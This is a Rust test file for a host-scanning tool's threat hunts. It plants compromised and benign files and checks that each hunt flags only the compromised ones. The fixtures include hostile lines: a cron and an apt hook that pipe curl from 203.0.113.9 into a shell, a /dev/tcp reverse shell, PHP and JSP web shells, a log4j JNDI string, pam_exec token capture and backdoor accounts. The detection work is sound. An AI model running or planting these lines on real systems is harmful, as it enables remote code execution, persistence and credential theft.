//! The action files of `examples/hunts`: each finds what it is for, and nothing on a host that is well. Their
//! signatures are checked as `examples/hunts/README.md` says.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use vigie_fleet::signature::{PublicKey, verify};
use vigie_sdk::{ModuleResult, Query, StandardModule, Verdict};

use crate::harness::{Host, Settings};

/// A file: path below the root, content, mode.
type Plant = (&'static str, &'static str, u32);

/// A hunt, what it must find, and what it must not.
const HUNTS: &[(&str, Plant, Plant)] = &[
    (
        "ld-so-preload",
        ("etc/ld.so.preload", "/usr/lib/libx.so\n", 0o644),
        ("etc/ld.so.preload", "# nothing\n", 0o644),
    ),
    (
        "cron-download",
        ("etc/cron.d/apt-compat", "* * * * * root curl -s http://203.0.113.9/x | bash\n", 0o644),
        ("etc/cron.d/e2scrub", "10 3 * * * root test -e /run/systemd/system || e2scrub_all\n", 0o644),
    ),
    (
        "reverse-shell-scripts",
        ("tmp/.x", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", 0o755),
        ("tmp/note", "see bash(1) about dev tcp\n", 0o644),
    ),
    ("setuid-in-writable-places", ("tmp/.s", "x", 0o4755), ("tmp/plain", "x", 0o755)),
    (
        "authorized-keys-forced-command",
        (
            "root/.ssh/authorized_keys",
            "command=\"/tmp/x\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4 a\n",
            0o600,
        ),
        ("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4 a\n", 0o600),
    ),
    (
        "second-root-user",
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\n", 0o644),
        ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbin:x:2:2::/:/bin/sh\n", 0o644),
    ),
    (
        "users-without-password",
        ("etc/shadow", "ann::19000:0:99999:7:::\n", 0o600),
        ("etc/shadow", "ann:*:19000:0:99999:7:::\n", 0o600),
    ),
    (
        "sudo-without-password",
        ("etc/sudoers.d/x", "ann ALL=(ALL) NOPASSWD: ALL\n", 0o440),
        ("etc/sudoers.d/y", "# ann ALL=(ALL) NOPASSWD: ALL\n%ops ALL=(root) /usr/bin/id\n", 0o440),
    ),
    (
        "pam-permit",
        ("etc/pam.d/sshd", "auth sufficient pam_permit.so\n", 0o644),
        ("etc/pam.d/sshd", "auth required pam_unix.so\n", 0o644),
    ),
    (
        "pam-exec",
        ("etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /tmp/log\n", 0o644),
        ("etc/pam.d/common-auth", "auth required pam_unix.so\n", 0o644),
    ),
    (
        "systemd-units-from-writable-places",
        ("etc/systemd/system/dbus-helper.service", "[Service]\nExecStart=/dev/shm/.d -q\n", 0o644),
        ("etc/systemd/system/good.service", "[Service]\nExecStart=/usr/sbin/good\n", 0o644),
    ),
    (
        "shell-profile-backdoor",
        ("root/.bashrc", "alias ls='ls'\nsetsid /dev/shm/.k &\n", 0o644),
        ("root/.bashrc", "alias ll='ls -l'\n", 0o644),
    ),
    (
        "web-shell-php",
        ("var/www/html/a.php", "<?php eval(base64_decode($_POST['x'])); ?>\n", 0o644),
        ("var/www/html/b.php", "<?php echo htmlspecialchars($_GET['x']); ?>\n", 0o644),
    ),
    (
        "web-shell-jsp",
        ("opt/app/c.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n", 0o644),
        ("opt/app/d.jsp", "<%= new java.util.Date() %>\n", 0o644),
    ),
    ("hidden-programs-in-dev", ("dev/.udev/x", "MZ..", 0o644), ("dev/shm-empty", "", 0o644)),
    (
        "miner-configuration",
        ("var/tmp/.c/config.json", "{\"url\": \"stratum+tcp://pool.example:3333\"}\n", 0o644),
        ("opt/readme", "about strata\n", 0o644),
    ),
    ("elf-in-tmp", ("tmp/k", "\u{7f}ELF\u{2}\u{1}\u{1}", 0o644), ("tmp/text", "an ELF in a story\n", 0o644)),
    (
        "udev-rule-runs",
        ("etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c /tmp/x\"\n", 0o644),
        ("etc/udev/rules.d/10-y.rules", "KERNEL==\"sda\", MODE=\"0660\"\n", 0o644),
    ),
    (
        "kernel-module-at-boot",
        ("etc/modules-load.d/x.conf", "diamorphine\n", 0o644),
        ("etc/modules-load.d/y.conf", "loop\n", 0o644),
    ),
    (
        "rc-local",
        ("etc/rc.local", "#!/bin/sh\nnohup /opt/.h &\nexit 0\n", 0o755),
        ("etc/rc.local", "#!/bin/sh\nexit 0\n", 0o755),
    ),
    (
        "apt-hook",
        ("etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"curl -s http://203.0.113.9 | sh\"};\n", 0o644),
        ("etc/apt/apt.conf.d/20y", "APT::Periodic::Enable \"1\";\n", 0o644),
    ),
    (
        "git-hooks",
        ("srv/r/.git/hooks/post-checkout", "#!/bin/sh\ncurl -s http://203.0.113.9 -o /tmp/x\n", 0o755),
        ("srv/r/.git/hooks/pre-commit", "#!/bin/sh\nmake check\n", 0o755),
    ),
    (
        "xz-backdoor-library",
        ("usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1", "x", 0o644),
        ("usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1", "x", 0o644),
    ),
    (
        "log4j-jndi-in-logs",
        ("var/log/nginx/access.log", "GET /?x=${jndi:ldap://203.0.113.9/a}\n", 0o644),
        ("var/log/nginx/access.log", "GET /?x=1\n", 0o644),
    ),
    ("dirty-names", ("tmp/... ", "x", 0o644), ("tmp/...a", "x", 0o644)),
    ("orphaned-files", ("etc/orphan", "OWNER 4294900000", 0o644), ("etc/owned", "x", 0o644)),
    (
        "private-keys-readable",
        ("home/ann/.ssh/id_rsa", "-----BEGIN RSA PRIVATE KEY-----\nx\n", 0o644),
        ("home/ann/.ssh/id_rsa", "-----BEGIN RSA PRIVATE KEY-----\nx\n", 0o600),
    ),
];

fn directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/hunts")
}

fn read(name: &str) -> Value {
    let text = fs::read(directory().join(format!("{name}.json"))).unwrap();
    serde_json::from_slice(&text).unwrap()
}

/// Asks a hunt about a host whose root is elsewhere.
fn hunt(name: &str, root: &Path) -> ModuleResult {
    let mut parameters = read(name)["operations"][0]["parameters"].take();
    for search in parameters["searches"].as_object_mut().unwrap().values_mut() {
        for path in search["paths"].as_array_mut().unwrap() {
            *path = json!(format!("{}{}", root.display(), path.as_str().unwrap()));
        }
    }
    vigie_file::File::run(&Query::new(Some(serde_json::value::to_raw_value(&parameters).unwrap())))
}

fn host_with(plant: Plant) -> tempfile::TempDir {
    let (path, content, mode) = plant;
    let root = tempfile::tempdir().unwrap();
    let path = root.path().join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, content).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
    if let Some(owner) = content.strip_prefix("OWNER ") {
        // Without root nobody can give a file away; the test of that hunt is empty then.
        std::os::unix::fs::chown(&path, owner.parse().ok(), None).ok();
    }
    root
}

#[test]
fn every_hunt_finds_what_it_is_for_and_nothing_on_a_host_that_is_well() {
    for (name, evil, benign) in HUNTS {
        if evil.1.starts_with("OWNER ") && !vigie_skipped::is_root() {
            continue;
        }
        let (ill, well) = (host_with(*evil), host_with(*benign));

        let (found, absent) = (hunt(name, ill.path()), hunt(name, well.path()));

        assert_eq!(found.verdict(), Verdict::Found, "{name}: {found:?}");
        assert_eq!(absent.verdict(), Verdict::Absent, "{name}: {absent:?}");
    }
}

#[test]
fn every_hunt_has_its_test_and_runs_on_a_host() {
    let names: BTreeSet<String> = fs::read_dir(directory())
        .unwrap()
        .filter_map(|entry| entry.unwrap().file_name().to_str()?.strip_suffix(".json").map(str::to_owned))
        .collect();
    let tested: BTreeSet<String> = HUNTS.iter().map(|(name, ..)| (*name).to_owned()).collect();
    assert!(names.len() >= 25, "{}", names.len());
    assert_eq!(names, tested);

    let host = Host::new(&Settings::default(), "");
    let _agent = host.start();
    for name in ["ld-so-preload", "second-root-user", "apt-hook"] {
        let path = directory().join(format!("{name}.json"));
        let ran = host.vigie(&["query", "-i", path.to_str().unwrap(), "--json"]);

        let answer: Value = serde_json::from_str(&ran.out).unwrap();
        assert_eq!(answer["result"]["success"], true, "{ran:?}");
    }
}

/// What the hunts are signed for.
const SIGNED_FOR: &str = "vigie-hunt";

#[test]
fn every_hunt_bears_the_signature_of_the_repositorys_key() {
    let signers = fs::read_to_string(directory().join("allowed_signers")).unwrap();
    let (_, key) = signers.trim().split_once(&format!("namespaces=\"{SIGNED_FOR}\" ")).unwrap();
    let key: PublicKey = key.parse().unwrap();
    for (name, ..) in HUNTS {
        let hunt = fs::read(directory().join(format!("{name}.json"))).unwrap();
        let signature = fs::read_to_string(directory().join(format!("{name}.json.sig"))).unwrap();

        let signer = verify(SIGNED_FOR, &hunt, &signature).unwrap_or_else(|error| panic!("{name}: {error}"));

        assert_eq!(signer.key, key, "{name}");
        let mut changed = hunt.clone();
        changed.push(b' ');
        assert!(verify(SIGNED_FOR, &changed, &signature).is_err(), "{name}: a changed hunt passes");
        assert!(verify("vigie-action@v1", &hunt, &signature).is_err(), "{name}: it must not do as an action");
    }
}

#[test]
fn ssh_keygen_verifies_a_hunt_as_the_readme_says() {
    let hunt = fs::File::open(directory().join("rc-local.json")).unwrap();
    let ran = std::process::Command::new("ssh-keygen")
        .args([
            "-Y",
            "verify",
            "-f",
            "allowed_signers",
            "-I",
            "hunts",
            "-n",
            SIGNED_FOR,
            "-s",
            "rc-local.json.sig",
        ])
        .current_dir(directory())
        .stdin(hunt)
        .output();
    match ran {
        Ok(ran) => assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr)),
        Err(_) => vigie_skipped::missing("ssh-keygen"),
    }
}
